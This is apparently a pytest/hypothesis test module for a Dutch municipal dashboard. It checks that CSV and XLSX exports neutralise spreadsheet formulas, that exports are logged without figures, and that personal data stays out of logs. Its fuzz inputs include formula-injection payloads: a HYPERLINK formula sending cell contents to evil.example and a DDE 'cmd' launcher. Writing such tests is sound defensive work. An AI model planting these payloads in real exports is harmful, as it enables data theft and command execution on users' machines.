"""Exports: formulas never reach a CSV/XLSX unescaped; every export is logged without figures;
person-level input never reaches a log or report."""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import date

import openpyxl
import pandas as pd
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dashboards import auth, exports
from wijkwijs.access import AREA_TEAM, Access

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
EVIL = ["\x01=HYPERLINK(\"x\")", "\x00+1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0",
        "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1", "=1", "'=al gequote", "normaal", "-1,5"]
cells = st.one_of(st.sampled_from(EVIL), st.text(max_size=30),
                  st.integers(-10**6, 10**6), st.floats(allow_nan=False, allow_infinity=False),
                  st.none())


@st.composite
def frames(draw):
    n_cols = draw(st.integers(1, 4))
    n_rows = draw(st.integers(0, 6))
    names = draw(st.lists(st.one_of(st.sampled_from(EVIL), st.text(min_size=1, max_size=12)),
                          min_size=n_cols, max_size=n_cols, unique=True))
    data = {}
    for name in names:
        values = draw(st.lists(cells, min_size=n_rows, max_size=n_rows))
        kind = draw(st.sampled_from(["object", "string", "category"]))
        text = [None if v is None else str(v) for v in values]
        data[name] = (pd.Series(values, dtype=object) if kind == "object"
                      else pd.Series(text, dtype=kind))
    return pd.DataFrame(data)


def is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return not text.strip().startswith(("=", "+", "@")) and text == text.strip()


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(frame=frames())
def test_no_formula_reaches_a_csv_export(frame):
    with auth.use_access(Access("analyst", "fuzz")):
        out = exports.to_csv(frame, what="fuzz")
    text = out.decode("utf-8-sig")
    # a spreadsheet splits rows at CR and LF outside quotes: so do we
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=";", strict=True):
        for cell in row:
            assert not cell.startswith(FORMULA_START) or is_number(cell), repr(cell)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(frame=frames(), about=st.dictionaries(st.sampled_from(["Titel", "Periode", "Bron"]),
                                             st.sampled_from(EVIL), max_size=3))
def test_no_formula_reaches_an_xlsx_export(frame, about):
    with auth.use_access(Access("analyst", "fuzz")):
        out = exports.to_xlsx(frame, about)
    book = openpyxl.load_workbook(io.BytesIO(out))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_START), repr(cell.value)


def test_youth_ideas_export_is_guarded_too():
    from wijkwijs.youth import brief

    records = pd.DataFrame({c: ["x"] for c in brief.EXPORT_COLUMNS}).assign(
        idea="=HYPERLINK(\"http://evil.example\",\"klik\")", support=[3],
        quarter_start=[date(2024, 1, 1)], location_precision=["buurt"])
    text = exports.to_csv(brief.export_frame(records), what="Jongereninbreng").decode("utf-8-sig")
    assert "\n=HYPERLINK" not in text and ";=HYPERLINK" not in text and "'=HYPERLINK" in text


# --- the export log: who, what, when; never a figure --------------------------------------------


def test_every_export_is_logged_with_user_but_without_figures(tmp_path, monkeypatch, caplog):
    monkeypatch.setenv("WIJKWIJS_DATA_DIR", str(tmp_path))
    frame = pd.DataFrame({"Buurt": ["Oude Markt"], "Aantal cliënten": [987654],
                          "Per 1.000": ["4.321,7"]})
    about = {"Titel": "Wmo per buurt", "Periode": "maart 2024"}
    doc = exports.ProfileDocument(title="Buurtprofiel Oude Markt", subtitle="Buurt",
                                  period_text="maart 2024", published_text="",
                                  tables=[("Wmo", frame)])
    team = Access(AREA_TEAM, "wijkteam.centrum@gemeente.nl", frozenset({"WK999901"}))
    with caplog.at_level(logging.INFO, logger="wijkwijs.audit"), auth.use_access(team):
        exports.to_csv(frame)
        exports.to_xlsx(frame, about)
        exports.profile_pdf(doc)
    lines = [json.loads(line) for line in auth.export_log_path().read_text().splitlines()]
    assert [entry["format"] for entry in lines] == ["csv", "xlsx", "pdf"]
    for entry in lines:
        assert entry["user"] == "wijkteam.centrum@gemeente.nl" and entry["role"] == AREA_TEAM
        assert entry["when"] and entry["what"]
    assert lines[1]["what"] == "Wmo per buurt · maart 2024"
    logged = auth.export_log_path().read_text() + caplog.text
    for figure in ("987654", "987.654", "4.321", "4321"):
        assert figure not in logged
    assert len(caplog.records) == 3


def test_person_level_input_never_reaches_a_report_or_log(tmp_path, caplog):
    from tests.security.test_security_ingest_fuzz import HEADER, check_outcome, warehouse

    bsn, mail = "111222333", "jan.jansen@example.nl"
    content = "\n".join([HEADER + ";contact",
                         f"2024-03;2024;GM9999;BU99990101;wmo;vervoer;12;{mail}",
                         f"2024-03;2024;GM9999;{bsn};wmo;vervoer;7;x"]).encode()
    with caplog.at_level(logging.DEBUG), warehouse() as (con, paths):
        outcome = check_outcome(con, paths, "personen.csv", content)
        assert outcome.status == "rejected"
        written = "".join(p.read_text() for p in paths.quarantine.glob("*.report.*"))
        written += str(con.execute("select * from raw.load_log").fetchall())
    for value in (bsn, mail, "jansen"):
        assert value not in written and value not in caplog.text
